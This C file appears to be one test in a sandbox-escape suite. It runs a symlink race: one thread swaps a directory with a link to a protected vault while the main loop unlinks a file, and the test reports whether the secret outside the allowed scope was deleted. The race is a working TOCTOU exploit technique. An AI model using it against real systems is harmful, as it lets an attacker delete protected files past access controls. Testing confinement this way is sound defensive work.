// Exchanges a directory with a link out of the scope while a file in it is deleted.

#include "attack.h"

static const char *directory, *link_path;
static atomic_bool stop;

static void *exchanging(void *unused) {
  while (!stop) syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link_path, 2 /* RENAME_EXCHANGE */);
  return unused;
}

int main(void) {
  directory = WORK("directory");
  link_path = WORK("link");
  const char *secret = SECRET, *path = joined("%s/%s", directory, secret_name());
  if (mkdir(directory, 0700) || symlink(vault(), link_path)) refused("mkdir");
  pthread_t thread;
  if (pthread_create(&thread, 0, exchanging, 0)) broken("pthread_create");
  struct stat there;
  for (int index = 0; index < TRIES; index++) {
    unlink(path);
    if (stat(secret, &there)) won("the secret was deleted, after %d tries", index + 1);
  }
  stop = true;
  blocked("0 of %d unlinks deleted the secret", TRIES);
}
